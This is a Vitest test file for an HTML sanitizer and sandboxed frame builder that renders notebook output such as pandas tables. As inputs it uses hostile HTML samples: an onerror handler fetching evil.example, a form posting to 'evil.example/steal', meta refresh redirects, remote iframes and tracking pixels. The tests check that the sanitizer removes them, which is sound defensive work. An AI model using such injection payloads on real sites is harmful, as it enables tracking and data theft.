// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { FRAME_CONTENT_SECURITY_POLICY, FRAME_RESIZE_SCRIPT } from "./frame-policy";
import { htmlOutputDocument, sanitizeHtmlOutput } from "./SandboxedHtml";

/** The sanitized HTML as a DOM, to assert on elements and attributes rather than on text. */
function sanitized(html: string): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = sanitizeHtmlOutput(html);
  return root;
}

const PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";

// What pandas' DataFrame._repr_html_ produces (abridged).
const PANDAS = `<div>
<style scoped>
    .dataframe tbody tr th:only-of-type { vertical-align: middle; }
    .dataframe thead th { text-align: right; }
</style>
<table border="1" class="dataframe">
  <thead><tr style="text-align: right;"><th></th><th>a</th></tr></thead>
  <tbody><tr><th>0</th><td>1</td></tr></tbody>
</table>
</div>`;

describe("sanitizeHtmlOutput", () => {
  it("removes scripts", () => {
    const root = sanitized('<p>before</p><script>parent.postMessage({ kilnFrameHeight: 1e9 }, "*")</script><p>after</p>');
    expect(root.querySelector("script")).toBeNull();
    expect(root.innerHTML).not.toContain("postMessage");
    expect(root.textContent).toContain("after");
  });

  it("removes event handlers", () => {
    const root = sanitized(`<img src="${PIXEL}" onerror="fetch('https://evil.example')" onload="x()"><div onclick="y()">d</div>`);
    expect(root.querySelector("img")?.getAttribute("src")).toBe(PIXEL);
    expect(root.querySelector("[onerror], [onload], [onclick]")).toBeNull();
  });

  it("removes meta refreshes and base", () => {
    const root = sanitized('<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>x</p>');
    expect(root.querySelector("meta")).toBeNull();
    expect(root.querySelector("base")).toBeNull();
    expect(root.innerHTML).not.toContain("evil.example");
  });

  it("removes forms and their controls", () => {
    const root = sanitized(
      '<form action="https://evil.example/steal"><input name="key"><textarea>t</textarea><select><option>o</option></select>' +
        '<button formaction="https://evil.example">Send</button></form>',
    );
    for (const tag of ["form", "input", "textarea", "select", "option", "button"]) expect(root.querySelector(tag), tag).toBeNull();
    expect(root.innerHTML).not.toContain("evil.example");
  });

  it("removes frames, objects, embeds and stylesheet links", () => {
    const root = sanitized(
      '<iframe src="https://evil.example"></iframe><object data="https://evil.example/o"></object>' +
        '<embed src="https://evil.example/e"><link rel="stylesheet" href="https://evil.example/s.css">',
    );
    for (const tag of ["iframe", "object", "embed", "link"]) expect(root.querySelector(tag), tag).toBeNull();
    expect(root.innerHTML).not.toContain("evil.example");
  });

  it("takes the src from remote images and drops srcset, keeping local images", () => {
    const root = sanitized(
      `<img alt="remote" src="https://evil.example/track.gif?u=1"><img alt="srcset" src="${PIXEL}" srcset="https://evil.example/2x.png 2x">` +
        `<img alt="blob" src="blob:https://kiln.example/1">`,
    );
    const images = [...root.querySelectorAll("img")];
    expect(images.map((image) => [image.alt, image.getAttribute("src")])).toEqual([
      ["remote", null],
      ["srcset", PIXEL],
      ["blob", "blob:https://kiln.example/1"],
    ]);
    expect(root.querySelector("[srcset]")).toBeNull();
    expect(root.innerHTML).not.toContain("evil.example");
  });

  it("takes remote URLs from media posters and SVG images", () => {
    const root = sanitized(
      '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>' +
        '<svg><image href="https://evil.example/i.png"></image><path id="curve" d="M0 0L9 9"></path><text><textPath href="#curve">t</textPath></text></svg>',
    );
    expect(root.querySelector("video")?.hasAttribute("src")).toBe(false);
    expect(root.querySelector("video")?.hasAttribute("poster")).toBe(false);
    expect(root.querySelector("image")?.hasAttribute("href")).toBe(false);
    expect(root.querySelector("textPath")?.getAttribute("href")).toBe("#curve");
  });

  it("removes ping from links", () => {
    const link = sanitized('<a href="https://example.com/" ping="https://evil.example/ping">l</a>').querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.com/");
    expect(link?.hasAttribute("ping")).toBe(false);
  });

  it("keeps style elements and attributes, and pandas' tables", () => {
    const root = sanitized(PANDAS);
    expect(root.querySelector("style")?.textContent).toContain(".dataframe thead th { text-align: right; }");
    expect(root.querySelector("table.dataframe")?.getAttribute("border")).toBe("1");
    expect(root.querySelector("thead tr")?.getAttribute("style")).toBe("text-align: right;");
    expect([...root.querySelectorAll("th, td")].map((cell) => cell.textContent)).toEqual(["", "a", "0", "1"]);
  });

  it("keeps a leading style element (pandas' Styler output starts with one)", () => {
    const root = sanitized('<style type="text/css">#T_1_row0_col0 { color: red; }</style><table id="T_1"><tr><td id="T_1_row0_col0">1</td></tr></table>');
    expect(root.querySelector("style")?.textContent).toContain("#T_1_row0_col0");
    expect(root.querySelector("td")?.id).toBe("T_1_row0_col0");
  });
});

describe("htmlOutputDocument", () => {
  it("starts with the frame's policy and ends with the resize reporter", () => {
    const doc = htmlOutputDocument("<p>hi</p><script>alert(1)</script>");
    expect(doc.startsWith(`<!doctype html><meta http-equiv="Content-Security-Policy" content="${FRAME_CONTENT_SECURITY_POLICY}">`)).toBe(true);
    expect(doc.endsWith(`<p>hi</p><script>${FRAME_RESIZE_SCRIPT}</script>`)).toBe(true);
    expect(doc).not.toContain("alert(1)");
  });

  it("parses with the policy in the head, before any output", () => {
    const parsed = new DOMParser().parseFromString(htmlOutputDocument("<style>p{}</style><p>hi</p>"), "text/html");
    const first = parsed.head.firstElementChild;
    expect(first?.getAttribute("http-equiv")).toBe("Content-Security-Policy");
    expect(first?.getAttribute("content")).toBe(FRAME_CONTENT_SECURITY_POLICY);
    expect([...parsed.scripts].map((script) => script.textContent)).toEqual([FRAME_RESIZE_SCRIPT]);
  });
});
